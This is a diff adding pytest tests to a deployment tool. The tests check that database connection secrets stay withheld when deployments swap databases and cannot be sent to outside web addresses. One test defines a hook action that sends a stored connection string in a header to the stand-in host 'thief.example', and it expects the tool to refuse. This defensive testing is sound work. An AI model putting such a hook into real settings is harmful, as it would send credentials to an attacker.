@@ -16,7 +16,9 @@ from changeover.model.health.check import HealthCheck, Journey, JourneyStep
 from changeover.model.secret import Secret
 from changeover.model.settings.acting_parts import fingerprint_of
 from changeover.model.settings.action import Action, CommandLine, HttpCall, Phase
+from changeover.model.settings.deployment_database import DeploymentDatabase
 from changeover.model.settings.service import Account, Answer, Deployment, LookupSettings, Service, Settings
+from changeover.model.settings.service_secrets import DATABASE_HOST
 from changeover.storage.home import Home
 from changeover.storage.keyring import Vault
 
@@ -436,3 +438,42 @@ async def test_accounts_that_were_renamed_or_swapped_send_no_secret(world: World
     world.settings = replace(world.settings, accounts=(account(), OTHER))
     assert await given(world.again(), account()) == "key of pd"
     assert await given(world.again(), OTHER) == "key of other"
+
+
+def with_databases(one: str, two: str) -> Settings:
+    named = zip(SHOP.deployments, (one, two), strict=True)
+    deployments = tuple(replace(d, database=DeploymentDatabase(kind="postgresql", secret=name)) for d, name in named)
+    return Settings(services=(replace(SHOP, health=HealthCheck(), deployments=deployments),))
+
+
+async def test_databases_that_change_places_are_not_asked(world: World) -> None:
+    """Whoever can push settings may name one's connection string for the other: nothing is asked, or promoted."""
+    world.settings = with_databases("one-db", "two-db")
+    url = Secret("postgresql://me:pw@db.example/shop")
+    world.vault.hold("service-shop", "one-db", DATABASE_HOST, url)
+    await world.approve()
+    (shop,) = world.settings.services
+    one = shop.primary.database
+    assert one is not None
+    assert await world.again().database_secret(shop, one) == url
+    world.settings = with_databases("two-db", "one-db")
+    (shop,) = world.settings.services
+    two = shop.deployments[1].database
+    assert two is not None
+    with pytest.raises(NotApproved, match="Which databases the deployments of shop have has changed"):
+        await world.again().database_secret(shop, two)
+
+
+async def test_a_connection_string_is_sent_to_no_web_address(world: World) -> None:
+    """An action that was pushed cannot have it, be it approved or not: it was added for the database."""
+    world.settings = with_databases("one-db", "two-db")
+    url = Secret("postgresql://me:pw@db.example/shop")
+    world.vault.hold("service-shop", "one-db", DATABASE_HOST, url)
+    await world.approve()
+    call = HttpCall(url="https://thief.example/", headers={"X": "{secret:one-db}"})
+    hook = Action(name="hook", phase=Phase.LIFT, operation=call)
+    shop = replace(world.settings.services[0], actions=(hook,))
+    world.settings = Settings(services=(shop,))
+    await world.approve()
+    with pytest.raises(AuthError, match=r"the secret one-db was not added for thief\.example"):
+        await world.again().call_secrets(shop, call)
